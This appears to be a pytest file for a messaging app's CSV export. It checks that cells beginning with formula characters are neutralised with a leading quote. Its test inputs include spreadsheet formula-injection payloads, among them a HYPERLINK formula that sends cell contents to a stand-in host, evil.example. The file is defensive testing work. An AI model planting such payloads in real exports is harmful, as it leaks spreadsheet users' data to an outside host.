"""Exports are safe to open in a spreadsheet (issue #13.9)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from app.domain.models.messages import Direction, Message, MessageKind
from app.domain.spreadsheet import safe_cell
from app.services.messages.export import to_csv


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555 0100 =cmd", "-2+3",
     "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_formula_starts_are_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Merci beaucoup", "", "5 $ = cheap", "R&D", "'quoted"])
def test_ordinary_text_is_kept(text: str) -> None:
    assert safe_cell(text) == text


def test_a_conversation_export_carries_no_live_formula() -> None:
    hostile = Message(kind=MessageKind.SMS, id=1, date=datetime(2026, 12, 4, tzinfo=UTC),
                      direction=Direction.RECEIVED, did="6175550100", contact="4185550123",
                      text='=HYPERLINK("http://evil.example","Invoice")')
    rows = list(csv.reader(io.StringIO(to_csv([hostile], tz=UTC))))
    text = rows[1][rows[0].index("text")]
    assert text == "'" + hostile.text
